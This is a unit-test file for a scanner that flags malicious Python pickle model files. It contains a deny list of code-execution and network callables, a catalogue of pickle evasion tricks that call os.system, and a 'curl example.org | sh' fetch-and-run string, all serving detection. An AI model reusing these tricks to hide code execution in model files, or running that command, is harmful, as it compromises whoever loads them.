@@ -1,0 +1,334 @@
+"""Pickles that do something when they are loaded, however that is hidden; the findings say what."""
+
+import pickle
+
+import pytest
+
+from budmodel_scanner.verdict import Verdict
+from tests.unit.budmodel_scanner.pickle_making import (
+    MALICIOUS,
+    SAFE,
+    SUSPICIOUS,
+    SYSTEM,
+    LegacyTorch,
+    call,
+    calling,
+    dtype,
+    findings,
+    group,
+    instance,
+    joblib_array,
+    mapping,
+    name,
+    number,
+    numpy_array,
+    rules,
+    stack_name,
+    storage_id,
+    text,
+    verdict,
+    whole,
+)
+
+DANGEROUS = [
+    "os.system",
+    "posix.system",
+    "nt.system",
+    "subprocess.Popen",
+    "builtins.eval",
+    "__builtin__.eval",
+    "builtins.exec",
+    "builtins.__import__",
+    "commands.getoutput",
+    "runpy.run_path",
+    "importlib.import_module",
+    "pty.spawn",
+    "pip._internal.main",
+    "pydoc.pipepager",
+    "timeit.timeit",
+    "cProfile.run",
+    "bdb.Bdb.run",
+    "pickle.loads",
+    "_pickle.loads",
+    "dill.loads",
+    "cloudpickle.loads",
+    "joblib.load",
+    "torch.load",
+    "torch.hub.load",
+    "numpy.load",
+    "pandas.read_pickle",
+    "pandas.eval",
+    "marshal.loads",
+    "types.FunctionType",
+    "types.CodeType",
+    "operator.attrgetter",
+    "operator.methodcaller",
+    "ctypes.CDLL",
+    "webbrowser.open",
+    "urllib.request.urlopen",
+    "urllib2.urlopen",
+    "requests.get",
+    "socket.create_connection",
+    "smtplib.SMTP",
+    "shutil.rmtree",
+    "numpy.testing._private.utils.runstring",
+    "numpy.f2py.crackfortran.getlincoef",
+    "numpy.core._ufunc_reconstruct",
+    "torch.fx.graph_module.reduce_graph_module",
+    "torch.jit.unsupported_tensor_ops.execWrapper",
+    "torch.utils.collect_env.run",
+    "torch._inductor.codecache.compile_file",
+    "transformers.dynamic_module_utils.get_class_from_dynamic_module",
+    "builtins.map",
+    "builtins.setattr",
+    "builtins.open",
+    "io.open",
+    "_io.FileIO",
+    "logging.FileHandler",
+    "logging.config.dictConfig",
+    "asyncio.create_subprocess_shell",
+    "multiprocessing.util.spawnv_passfds",
+    "imaplib.IMAP4_stream",
+    "idlelib.run.Executive.runcode",
+    "code.InteractiveInterpreter.runcode",
+    "pkgutil.resolve_name",
+    "uuid._popen",
+    "sqlite3.connect",
+    "collections.namedtuple",
+    "hydra.utils.instantiate",
+    "models.yolo.parse_model",
+    "keras.src.saving.serialization_lib.deserialize_keras_object",
+]
+
+
+@pytest.mark.parametrize("path", DANGEROUS)
+def test_names_that_run_or_load_or_reach_something_are_malicious(path: str) -> None:
+    module, _, attribute = path.rpartition(".")
+    assert verdict(calling(module, attribute)) is MALICIOUS
+    assert verdict(whole(stack_name(module, attribute), protocol=4)) is MALICIOUS
+
+
+def test_a_finding_says_what_is_called_with_what_and_where() -> None:
+    found = findings(calling("os", "system", text("curl example.org | sh")))[-1]
+    assert found.rule == "pickle.dangerous-call"
+    assert 'os.system("curl example.org | sh")' in found.what
+    assert found.where == "byte 41"
+
+
+OS_SYSTEM = name("os", "system")
+TRICKS = {
+    "INST": whole(b"(" + text("true") + b"ios\nsystem\n"),
+    "OBJ": whole(b"(" + OS_SYSTEM + text("true") + b"o"),
+    "NEWOBJ": whole(OS_SYSTEM + group(text("true")) + b"\x81"),
+    "NEWOBJ_EX": whole(OS_SYSTEM + group(text("true")) + b"}\x92"),
+    "dropped by POP": whole(SYSTEM + b"0N"),
+    "dropped by POP_MARK": whole(b"(" + SYSTEM + b"1N"),
+    "in a dict key": whole(b"}(" + SYSTEM + b"Nu"),
+    "names through the memo": whole(
+        text("os") + b"q\1" + text("system") + b"q\2" + b"00h\1h\2\x93" + group(text("true")) + b"R", 4
+    ),
+    "memo entry overwritten": whole(
+        text("math") + b"q\1" + b"0" + text("os") + b"q\1" + b"0h\1" + text("system") + b"\x93)R", 4
+    ),
+    "memo entry far away": whole(text("os") + b"r\xff\xff\xff\x7f" + b"0j\xff\xff\xff\x7f" + text("system") + b"\x93)R", 4),
+    "memo entries out of order": whole(
+        text("os") + b"q\7" + b"0" + text("a") + b"\x94" + b"0h\7" + text("system") + b"\x93)R", 4
+    ),
+    "name doubled by DUP": whole(text("os") + b"20" + text("system") + b"\x93)R", 4),
+    "name from STRING escapes": whole(b"S'o\\x73'\n" + b"S'\\163ystem'\n" + b"\x93)R"),
+    "name from UNICODE escapes": whole(b"V\\u006fs\n" + b"Vsystem\n" + b"\x93)R"),
+    "name from bytes of Python 2": whole(b"U\2osU\6system\x93)R"),
+    "name in eight bytes of length": whole(b"\x8d\2\0\0\0\0\0\0\0os" + text("system") + b"\x93)R"),
+    "text protocol": b"cos\nsystem\n(S'true'\ntR.",
+    "renamed from Python 2": calling("commands", "getstatusoutput"),
+    "module lookalike": calling("\uff4fs", "system"),
+    "protocol stated twice": b"\x80\x02\x80\x04" + SYSTEM + b".",
+    "dotted way out of a module": whole(stack_name("json", "codecs.sys.modules") + b".", 4),
+    "dotted way to a dunder": whole(stack_name("collections", "OrderedDict.__init__.__globals__"), 4),
+    "computed name": whole(call(name("builtins", "str"), text("o")) + text("system") + b"\x93)R", 4),
+    "name out of a list": whole(b"]" + text("system") + b"\x93)R", 4),
+    "attribute of a class": whole(call(name("builtins", "getattr"), name("collections", "OrderedDict"), text("__init__"))),
+    "attribute of a computed object": whole(call(name("builtins", "getattr"), call(name("a", "b")), text("c"))),
+    "state of a class": whole(name("collections", "OrderedDict") + mapping({"x": b"N"}) + b"b"),
+    "items of a module": whole(name("torch", "nn") + text("x") + b"Ns"),
+    "in the arguments of something harmless": whole(call(name("collections", "OrderedDict"), SYSTEM)),
+    "in the state of a module": whole(instance("torch.nn.modules.linear", "Linear", {"_forward_hooks": OS_SYSTEM})),
+    "in a pipeline": whole(
+        instance("sklearn.preprocessing._function_transformer", "FunctionTransformer", {"func": OS_SYSTEM})
+    ),
+    "in a persistent id": whole(group(text("storage"), OS_SYSTEM, text("0"), text("cpu"), number(3)) + b"Q"),
+    "through a partial function": whole(call(name("functools", "partial"), OS_SYSTEM, text("true"))),
+    "in a frame that lies": b"\x80\x04\x95" + bytes([3, 0, 0, 0, 0, 0, 0, 0]) + SYSTEM + b".",
+}
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+def test_a_dangerous_name_is_found_through_every_trick(trick: str) -> None:
+    assert verdict(TRICKS[trick]) is MALICIOUS
+
+
+YOLO = name("ultralytics.nn.tasks", "DetectionModel")
+NESTED = pickle.dumps([1, 2])
+INDIRECT = {
+    "a name on no list": calling("my_package.models", "Net"),
+    "a name on no list, not called": whole(name("my_package.models", "Net")),
+    "a name of the main program": whole(name("__main__", "Net") + b")\x81"),
+    "a very long name": whole(stack_name("a" * 300, "b"), 4),
+    "a name with a space": whole(name("collections ", "OrderedDict") + b")R"),
+    "a name that is no ASCII": whole(name("collections", "OrderedDi\u0441t") + b")R"),
+    "a nested class": whole(stack_name("collections", "OrderedDict.fromkeys"), 4),
+    "a call of a class that is only restored": whole(call(YOLO, mapping({"backbone": b"N"}))),
+    "that call through the base of _reconstructor": whole(call(name("copyreg", "_reconstructor"), YOLO, YOLO, mapping({}))),
+    "that call through a function of torch": whole(
+        call(name("torch._tensor", "_rebuild_from_type_v2"), YOLO, YOLO, b")", b"N")
+    ),
+    "a call of the result of a call": whole(call(call(name("collections", "OrderedDict")), text("x"))),
+    "an instance of a computed class": whole(call(name("collections", "OrderedDict")) + b")\x81"),
+    "an encoding of its own": whole(call(name("_codecs", "encode"), text("x"), text("zip"))),
+    "unpickling of bytes that are none": whole(call(name("torch.storage", "_load_from_bytes"), b"C\3abc")),
+    "unpickling of computed bytes": whole(call(name("torch.storage", "_load_from_bytes"), call(name("builtins", "bytes")))),
+    "much memory for bytes": calling("builtins", "bytearray", number(1 << 40)),
+    "much memory for an array": calling("numpy", "ndarray", group(number(1 << 20), number(1 << 20))),
+    "a range spelled out": whole(call(name("builtins", "list"), call(name("builtins", "range"), number(1 << 30)))),
+    "an extension code": whole(b"\x82\1" + b")R"),
+    "a persistent id": whole(text("http://example.org") + b"Q"),
+    "a persistent id in text": b"Pexample\n.",
+    "a buffer from elsewhere": whole(b"\x97", 5),
+    "objects left behind": whole(text("x") + b"N"),
+    "a frame longer than the pickle": b"\x80\x04\x95" + bytes([9, 0, 0, 0, 0, 0, 0, 0]) + b"N." + b"N" * 8,
+    "a frame inside a frame": b"\x80\x04\x95"
+    + bytes([20, 0, 0, 0, 0, 0, 0, 0])
+    + b"\x95"
+    + bytes([2, 0, 0, 0, 0, 0, 0, 0])
+    + b"N.",
+    "the state of a number": whole(number(3) + mapping({}) + b"b"),
+    "a distribution that executes its state": whole(instance("scipy.stats._distn_infrastructure", "rv_continuous", {})),
+}
+
+
+@pytest.mark.parametrize("what", INDIRECT)
+def test_what_could_do_something_is_not_safe(what: str) -> None:
+    assert verdict(INDIRECT[what]) is SUSPICIOUS
+
+
+INERT = LegacyTorch().written()
+BROKEN_TORCH = {
+    "object": LegacyTorch(body=SYSTEM),
+    "storages": LegacyTorch(keys=("94002",)),
+    "more storages": LegacyTorch(keys=("94001", "94002")),
+    "numbers missing": LegacyTorch(numbers=b"\3" + bytes(11)),
+    "count of numbers": LegacyTorch(numbers=b"\4" + bytes(19)),
+    "bytes behind": LegacyTorch(numbers=b"\3" + bytes(19) + b"x"),
+}
+
+
+@pytest.mark.parametrize("part", BROKEN_TORCH)
+def test_a_legacy_file_of_torch_is_examined_in_all_its_parts(part: str) -> None:
+    expected = MALICIOUS if part == "object" else SUSPICIOUS
+    assert verdict(BROKEN_TORCH[part].written()) is expected
+
+
+def test_a_magic_number_that_is_computed_hides_nothing() -> None:
+    magic = whole(call(name("builtins", "int"), text(str(0x1950A86A20F9469CFC6C))))
+    rest = LegacyTorch(body=SYSTEM).written()[len(pickle.dumps(0x1950A86A20F9469CFC6C, 2)) :]
+    assert verdict(magic + rest) is MALICIOUS
+
+
+@pytest.mark.parametrize("place", ["second", "last of many", "after bytes", "after a break", "compact names after a break"])
+def test_what_follows_a_harmless_pickle_is_examined(place: str) -> None:
+    harmless, hostile = pickle.dumps({"a": 1}), whole(SYSTEM)
+    contents = {
+        "second": harmless + hostile,
+        "last of many": harmless * 100 + hostile,
+        "after bytes": harmless + b"\0" * 5000 + hostile,
+        "after a break": harmless[:-4] + b"\xff" * 5000 + hostile,
+        "compact names after a break": b"\x80\x04\xff" + b"\x8c\x02os\x94\x8c\x06system\x94\x93\x94.",
+    }
+    assert verdict(contents[place]) is MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "behind",
+    [b"\0", b"\n", b"PK\x03\x04rest", b"\x7fELF", b"#!/bin/sh\n", b"\xff" * 3_000_000],
+    ids=lambda behind: repr(behind[:6]),
+)
+def test_bytes_behind_the_last_pickle_are_suspicious(behind: bytes) -> None:
+    assert verdict(pickle.dumps({"a": 1}) + behind) is SUSPICIOUS
+
+
+@pytest.mark.parametrize("where", ["array", "objects", "after the array"])
+def test_a_call_among_arrays_of_joblib_is_found(where: str) -> None:
+    bodies = {
+        "array": joblib_array(group(number(4)), "S20", SYSTEM.ljust(80, b"."), aligned=False),
+        "objects": joblib_array(group(number(1)), "O8", whole(SYSTEM), flags=63, aligned=False),
+        "after the array": b"]" + joblib_array(group(number(4)), "f8", b"\xff" * 32) + b"a" + SYSTEM + b"a",
+    }
+    assert verdict(whole(bodies[where])) is MALICIOUS
+
+
+@pytest.mark.parametrize("field", ["shape", "dtype", "state", "key"])
+def test_an_array_of_joblib_whose_length_is_hidden_is_suspicious(field: str) -> None:
+    whole_state = {"shape": group(number(1)), "dtype": dtype("f8")}
+    bodies = {
+        "shape": instance(
+            "joblib.numpy_pickle", "NumpyArrayWrapper", whole_state | {"shape": group(call(name("builtins", "int")))}
+        ),
+        "dtype": instance("joblib.numpy_pickle", "NumpyArrayWrapper", whole_state | {"dtype": text("f8")}),
+        "key": name("joblib.numpy_pickle", "NumpyArrayWrapper")
+        + b")\x81"
+        + mapping(whole_state)
+        + call(name("builtins", "str"), text("shape"))
+        + group(number(2))
+        + b"sb",
+        "state": name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + call(name("builtins", "dict")) + b"b",
+    }
+    assert verdict(whole(bodies[field] + bytes(8))) is SUSPICIOUS
+
+
+def test_the_state_of_an_array_may_not_change_behind_the_description_that_was_read() -> None:
+    """The second wrapper reuses a dict of the first, whose length was changed in between."""
+    state = {"shape": group(number(1)), "dtype": dtype("f8"), "subclass": name("numpy", "ndarray")}
+    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
+    changed = b"h\7" + text("shape") + group(number(2)) + b"s0"
+    body = (
+        b"](" + wrapper + mapping(state) + b"q\7" + b"b" + bytes(8) + changed + wrapper + b"h\7b" + bytes(16) + SYSTEM + b"e"
+    )
+    assert verdict(whole(body)) is MALICIOUS
+    assert "pickle.malformed" not in rules(whole(body))
+
+
+@pytest.mark.parametrize("loader", ["torch.storage._load_from_bytes", "my.loads"])
+def test_a_pickle_inside_bytes_is_examined(loader: str) -> None:
+    module, _, attribute = loader.rpartition(".")
+    hostile = whole(SYSTEM)
+    payload = b"B" + len(hostile).to_bytes(4, "little") + hostile
+    assert verdict(whole(call(name(module, attribute), payload))) is MALICIOUS
+
+
+def test_pickles_inside_pickles_end_at_a_depth() -> None:
+    body = pickle.dumps(1)
+    for _ in range(50):
+        body = whole(call(name("torch.storage", "_load_from_bytes"), b"B" + len(body).to_bytes(4, "little") + body))
+    assert verdict(body) is SUSPICIOUS
+
+
+def test_findings_of_one_cause_are_told_once_and_few_of_many() -> None:
+    assert len(findings(whole(SYSTEM * 1000 + b"N"))) < 10
+    many = b"".join(name(f"package{index}", "Net") + b"0" for index in range(5000))
+    assert 1 < len(findings(whole(many + b"N"))) <= 400
+    assert verdict(whole(many + SYSTEM)) is MALICIOUS
+
+
+def test_the_twins_of_these_are_safe() -> None:
+    """The same constructions, with nothing hostile in them."""
+    twins = [
+        whole(b"(" + b"ccollections\nOrderedDict\n" + b"o"),
+        whole(b"(icollections\nOrderedDict\n"),
+        whole(b"N0" + numpy_array()),
+        whole(call(name("collections", "defaultdict"), name("builtins", "list"))),
+        whole(call(name("copyreg", "_reconstructor"), YOLO, name("builtins", "object"), b"N")),
+        whole(call(name("torch.storage", "_load_from_bytes"), b"B" + len(INERT).to_bytes(4, "little") + INERT)),
+        whole(b"B" + len(NESTED).to_bytes(4, "little") + NESTED),
+    ]
+    assert [verdict(content) for content in twins] == [SAFE] * len(twins)
+    assert verdict(whole(storage_id("0", 1)), members=("archive/data.pkl",)) is Verdict.SAFE
